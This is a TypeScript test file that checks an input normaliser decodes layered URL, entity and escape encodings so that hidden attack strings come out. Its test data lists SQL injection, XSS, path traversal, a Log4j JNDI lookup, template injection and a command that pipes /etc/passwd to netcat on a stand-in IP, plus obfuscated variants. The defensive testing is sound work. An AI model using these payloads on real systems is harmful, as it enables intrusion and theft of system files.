import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { type DecodingStep, ENCODING_DEPTH, normalise } from './normalise.ts';

const ATTACKS = [
  "1' union select name from users-- -",
  '<script>alert(document.cookie)</script>',
  '../../../../etc/passwd',
  ';cat /etc/passwd|nc 10.0.0.1 4444',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as Log4j reads it.
  '${jndi:ldap://x/a}',
  '{{7*7}}',
] as const;

function hexadecimal(code: number, digits: number): string {
  return code.toString(16).padStart(digits, '0');
}

/** How senders hide a text; each writes every character otherwise. */
const ENCODINGS: Readonly<Record<string, (text: string) => string>> = {
  percent: (text) => [...text].map((one) => `%${hexadecimal(one.charCodeAt(0), 2)}`).join(''),
  'upper case percent': (text) =>
    [...text].map((one) => `%${hexadecimal(one.charCodeAt(0), 2).toUpperCase()}`).join(''),
  'percent u': (text) => [...text].map((one) => `%u${hexadecimal(one.charCodeAt(0), 4)}`).join(''),
  'hexadecimal entities': (text) => [...text].map((one) => `&#x${hexadecimal(one.charCodeAt(0), 2)};`).join(''),
  'decimal entities': (text) => [...text].map((one) => `&#${one.charCodeAt(0)};`).join(''),
  'entities with many zeros': (text) => [...text].map((one) => `&#x${hexadecimal(one.charCodeAt(0), 30)};`).join(''),
  '\\u': (text) => [...text].map((one) => `\\u${hexadecimal(one.charCodeAt(0), 4)}`).join(''),
  '\\u{}': (text) => [...text].map((one) => `\\u{${hexadecimal(one.charCodeAt(0), 20)}}`).join(''),
  '\\x': (text) => [...text].map((one) => `\\x${hexadecimal(one.charCodeAt(0), 2)}`).join(''),
};

test('any attack in any three encodings upon each other comes out', () => {
  const encoding = fc.constantFrom(...Object.keys(ENCODINGS));
  fc.assert(
    fc.property(fc.constantFrom(...ATTACKS), fc.array(encoding, { maxLength: 3 }), (attack, stack) => {
      const sent = stack.reduce((text, name) => ENCODINGS[name]?.(text) ?? '', attack as string);
      assert.equal(normalise(sent, false), attack, stack.join(', '));
    }),
  );
});

test('only what needs it is encoded: the rest stays as it is, and so does text that only looks encoded', () => {
  assert.equal(normalise('a%3Cb', false), 'a<b');
  assert.equal(normalise('100% of %zz %4', false), '100% of %zz %4');
  assert.equal(normalise('R&D &unknown; &lt=5 a&b', false), 'R&D &unknown; &lt=5 a&b');
  assert.equal(normalise('c:\\users\\new', false), 'c:\\users\\new');
});

test('a plus is a space in forms, and a plus elsewhere', () => {
  assert.equal(normalise('union+select', true), 'union select');
  assert.equal(normalise('1+1', false), '1+1');
  assert.equal(normalise('1%2B1', true), '1+1');
});

test('overlong UTF-8, full-width letters and what is invisible are read as what servers made of them', () => {
  assert.equal(normalise('%c0%ae%c0%ae%c0%af', false), '../');
  assert.equal(normalise('%e0%80%ae', false), '.');
  assert.equal(normalise('%ef%bc%9cscript%ef%bc%9e', false), '<script>');
  assert.equal(normalise('sel\xe2\x80\x8bect', false), 'select');
  assert.equal(normalise('\xca\xbc or 1=1', false), "' or 1=1");
});

test('the steps on the way are told, each with what it came to', () => {
  const steps: DecodingStep[] = [];
  normalise('%2526lt;+a', true, (step) => steps.push(step));
  assert.deepEqual(steps, [
    { step: 'plus', text: '%2526lt; a' },
    { step: 'percent', text: '%26lt; a' },
    { step: 'percent', text: '&lt; a' },
    { step: 'entities', text: '< a' },
  ]);
});

test('deeper than the bound it stays encoded', () => {
  const stacked = (depth: number): string => `%${'25'.repeat(depth - 1)}3c`;
  assert.equal(normalise(stacked(ENCODING_DEPTH), false), '<');
  assert.equal(normalise(stacked(ENCODING_DEPTH + 1), false), '%3c');
});

/** Pieces of which texts are made that decoders stumble over. */
const crumb = fc.oneof(
  fc.constantFrom('%', '%u', '&#', '&#x', ';', '\\', '\\u{', '}', '\\x', '+', '&lt;', '\0', 'a', '0', 'ff'),
  fc.integer({ min: 0, max: 255 }).map((code) => String.fromCharCode(code)),
);
const bytes = fc.array(crumb, { maxLength: 60 }).map((crumbs) => crumbs.join(''));

test('nothing that can be sent makes it throw, and it gives the same each time', () => {
  fc.assert(
    fc.property(bytes, fc.boolean(), (raw, isForm) => {
      assert.equal(normalise(raw, isForm), normalise(raw, isForm));
    }),
  );
});

test('what holds no escape and no plus is its own normal form', () => {
  fc.assert(
    fc.property(fc.stringMatching(/^[\w <>'"()=;,./-]*$/), (text) => {
      assert.equal(normalise(text, true), text);
    }),
  );
});
